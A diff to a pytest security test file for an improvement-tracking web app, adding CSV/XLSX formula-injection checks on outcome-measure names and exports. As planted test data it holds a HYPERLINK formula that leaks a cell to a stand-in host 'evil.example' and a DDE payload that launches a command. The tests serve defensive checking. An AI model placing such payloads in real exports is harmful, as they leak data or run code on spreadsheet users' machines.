@@ -14,11 +14,22 @@ import io
 from datetime import timedelta
 
 import pytest
+import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from improvement_tracker.extensions import db
-from improvement_tracker.models import Action, Finding, Force, Pillar, User
-from improvement_tracker.services import clock, kept, plan_version, plans, return_reviews, returns
+from improvement_tracker.models import Action, Finding, Force, OutcomeMeasure, Pillar, User
+from improvement_tracker.services import (
+    clock,
+    kept,
+    outcome_figures,
+    outcome_pages,
+    plan_version,
+    plans,
+    return_reviews,
+    returns,
+)
+from improvement_tracker.services.outcome_catalogue import CATALOGUE
 from tests import factories, files
 from tests.security.conftest import (
     OWN,
@@ -54,7 +65,12 @@ PAYLOADS = {
     "return_risks": "-2+3",
     "return_help": "+cmd",
     "correction_reason": "=1+2",
+    # Outcome measures' names, which administrators type (outcome_measures.edit).
+    "measure": '=HYPERLINK("https://evil.example/?leak="&C3,"Open")',
+    "measure_count": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
+# The measures given those names: a rate (on every national table) and a count.
+PLANTED_MEASURES = {"charge_rate": "measure", "referrals": "measure_count"}
 RETURN_WORDS = {"reason": "return_reason", "progress": "return_progress", "risks": "return_risks",
                 "help_needed": "return_help"}
 
@@ -81,19 +97,27 @@ DASHBOARDS = {
                                 ["headline", "status-by-pillar", "milestone-burn-up", "overdue-actions",
                                  "evidence-awaiting-review", "owners-most-overdue", "replanned-actions",
                                  "rag-disagreements"]),
+    # Outcome figures: the national page's tables, and a force's at a glance and one per measure.
+    "outcomes.national_export": ("/outcomes/export/{table}.{fmt}",
+                                 ["outcomes-summary", "outcomes-ranking", "outcomes-trend", "outcomes-progress"]),
+    "outcomes.force_export": (f"/forces/{OWN}/outcomes/export/{{table}}.{{fmt}}",
+                              ["outcomes-latest", *(row[0] for row in CATALOGUE)]),
 }
 # Downloads that hold no text a person typed (besides pillar names after their code).
 TEMPLATES = {"imports.template_xlsx": f"/forces/{OWN}/import/template.xlsx",
              "imports.template_csv": f"/forces/{OWN}/import/template-actions.csv"}
+# The national team's template for a file of outcome figures (force codes, quarters, measure codes).
+OUTCOME_TEMPLATE = {"outcome_imports.template_csv": "/outcomes/import/template.csv"}
 # Tables with no typed text at the start of a cell (numbers, dates, "P1 <pillar name>"): a payload
 # cannot be expected to show there as it does elsewhere.
-NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar", "status-by-pillar"}
+NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar", "status-by-pillar",
+                       "outcomes-trend"}
 
 
 def test_every_download_route_is_covered(app):
     """A new CSV or XLSX route fails here until it is added above."""
     downloads = {r.endpoint for r in rules(app) if "fmt" in r.arguments or r.rule.endswith((".csv", ".xlsx"))}
-    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | {RETURN_DOWNLOAD}
+    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | set(OUTCOME_TEMPLATE) | {RETURN_DOWNLOAD}
     assert downloads == covered
     assert all("GET" in methods(next(app.url_map.iter_rules(e))) for e in covered)
 
@@ -108,6 +132,13 @@ def test_dashboard_tables_listed_here_are_all_the_tables(app, world):
     assert set(national.tables) == set(DASHBOARDS["dashboards.national_export"][1])
     assert set(force.tables) == set(DASHBOARDS["dashboards.force_export"][1])
     assert set(pillar.tables) == set(DASHBOARDS["dashboards.pillar_export"][1])
+    # The world has figures for every force, so each outcome page has every table it can have.
+    figures = outcome_figures.load(db.session)
+    choice = outcome_pages.choose(figures, {})
+    outcome_national = outcome_pages.national_page(figures, choice, outcome_pages.plan_complete(db.session, today))
+    assert set(outcome_national.tables) == set(DASHBOARDS["outcomes.national_export"][1])
+    outcome_force = outcome_pages.force_page(figures, factories.force(OWN))
+    assert set(outcome_force.tables) == set(DASHBOARDS["outcomes.force_export"][1])
 
 
 @pytest.fixture
@@ -122,6 +153,8 @@ def planted(app, world):
     action = db.session.get(Action, world.own.action_id)
     action.title, action.reference = PAYLOADS["action_title"], PAYLOADS["action_reference"]
     db.session.get(Finding, world.own.finding_id).reference = PAYLOADS["finding_reference"]
+    for code, payload in PLANTED_MEASURES.items():
+        db.session.scalar(sa.select(OutcomeMeasure).where(OutcomeMeasure.code == code)).name = PAYLOADS[payload]
     plan_version.bump_every_force(db.session)  # names every page shows, changed by hand
     db.session.commit()
     # Overdue, re-planned, and declared differently from its computed RAG: so it is in every table.
@@ -239,3 +272,24 @@ def test_import_templates_hold_no_formulas(app, planted):
         assert _runnable(cells) == [], url
     text = " ".join(str(c) for c in _cells(pm.client.get(TEMPLATES["imports.template_xlsx"]), "xlsx") if c)
     assert PAYLOADS["pillar"] in text
+
+
+def test_the_outcome_import_template_holds_no_formulas(app, planted):
+    cells = _cells(browser(app, planted.oversight).client.get(OUTCOME_TEMPLATE["outcome_imports.template_csv"]),
+                   "csv")
+    assert _runnable(cells) == []
+
+
+def test_a_measure_name_an_administrator_types_as_a_formula_is_text_in_every_outcome_download(app, world):
+    """Through the administrators' form, as a person would type it: the form takes it (it is a name),
+    and every outcome download shows it as text behind an apostrophe."""
+    admin = browser(app, world.admin)
+    typed = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    admin.post("/outcomes/measures/charges/edit", {"name": typed, "definition": "", "source": "", "caveat": ""})
+    db.session.expire_all()
+    assert db.session.scalar(sa.select(OutcomeMeasure.name).where(OutcomeMeasure.code == "charges")) == typed
+    for url in ("/outcomes/export/outcomes-summary", f"/forces/{OWN}/outcomes/export/outcomes-latest"):
+        for fmt in ("csv", "xlsx"):
+            cells = _cells(admin.client.get(f"{url}.{fmt}?measure=charges"), fmt)
+            assert _runnable(cells) == [], f"{url}.{fmt}"
+            assert "'" + typed in cells, f"{url}.{fmt}: the name is not there as text"
